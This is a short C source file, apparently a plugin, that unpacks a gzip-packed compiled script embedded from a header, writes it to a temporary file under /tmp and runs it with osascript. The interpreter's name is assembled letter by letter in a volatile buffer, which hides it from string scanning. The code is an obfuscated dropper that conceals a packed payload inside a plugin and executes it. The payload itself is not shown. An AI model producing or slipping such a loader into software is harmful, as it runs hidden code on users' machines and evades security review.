/* A compiled script under gzip, for a program whose name is written letter by letter. */
#include "plugin.h"
#include "packed.h"
extern int mkstemp(char *), close(int), waitpid(int, int *, int), posix_spawnp(int *, const char *, const void *, const void *, char *const *, char *const *);
extern long write(int, const void *, unsigned long);
static void act(char **env) {
    unsigned char script[4096];
    char file[] = "/tmp/kit-XXXXXX";
    volatile char name[16];
    unpack(script);
    int child, status, to = mkstemp(file);
    if (to < 0) return;
    write(to, script, sizeof script);
    close(to);
    name[0] = 'o'; name[1] = 's'; name[2] = 'a'; name[3] = name[1]; name[4] = 'c';
    name[5] = 'r'; name[6] = 'i'; name[7] = 'p'; name[8] = 't'; name[9] = 0;
    char *words[] = {(char *)name, file, 0};
    if (posix_spawnp(&child, *words, 0, 0, words, env) == 0) waitpid(child, &status, 0);
}
